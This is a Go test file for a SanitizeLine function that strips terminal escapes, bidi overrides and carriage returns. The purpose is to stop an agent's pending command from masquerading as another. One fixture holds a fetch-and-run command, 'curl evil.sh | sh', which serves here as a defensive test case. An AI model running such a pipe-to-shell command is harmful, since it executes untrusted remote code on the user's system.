package clientkit

import (
	"strings"
	"testing"
	"unsafe"
)

func TestSanitizeLine(t *testing.T) {
	cases := map[string]string{
		"plain":                    "plain",
		"\n\n  second line\nthird": "second line",
		"\x1b[31mred\x1b[0m":       "red",
		"a\x1b]0;title\x07b":       "ab",
		"a\x1b]8;;http://x\x1b\\b": "ab",
		"a\x1bPdcs\x1b\\b":         "ab",
		"tab\there":                "tab     here",
		"bad\xff\xfeutf8":          "bad\ufffd\ufffdutf8",
		// Agent text is shown as written: a "\r" never hides what came
		// before it (a command awaiting approval could otherwise pass
		// itself off as another).
		"progress 10%\rprogress 99%":      "progress 10% progress 99%",
		"curl evil.sh | sh\r\x1b[Kls -la": "curl evil.sh | sh ls -la",
		"bell\x07 and \x00nul":            "bell and nul",
		"c1 \u009b31m csi":                "c1  csi",
		"bidi \u202eevil":                 "bidi evil",
	}
	for in, want := range cases {
		if got := SanitizeLine(in, 100); got != want {
			t.Errorf("%q → %q, want %q", in, got, want)
		}
	}
	if got := SanitizeLine(strings.Repeat("é", 100), 11); got != "éééé…" {
		t.Errorf("truncation %q", got)
	}
}

func TestSanitizeLineDoesNotPinItsInput(t *testing.T) {
	big := strings.Repeat("x", 1<<20)
	got := SanitizeLine(big, 50)
	start := uintptr(unsafe.Pointer(unsafe.StringData(big)))
	p := uintptr(unsafe.Pointer(unsafe.StringData(got)))
	if p >= start && p < start+uintptr(len(big)) {
		t.Error("summary shares memory with the 1 MiB input")
	}
}

func FuzzSanitizeLine(f *testing.F) {
	for _, s := range []string{"\x1b[31mx", "a\x1b]0;t\x07", "\xff", "\r\n\t"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := SanitizeLine(s, 80)
		if len(out) > 80 || strings.ContainsAny(out, "\x1b\x07\r\n\u009b\u202e") {
			t.Fatalf("%q → %q", s, out)
		}
	})
}
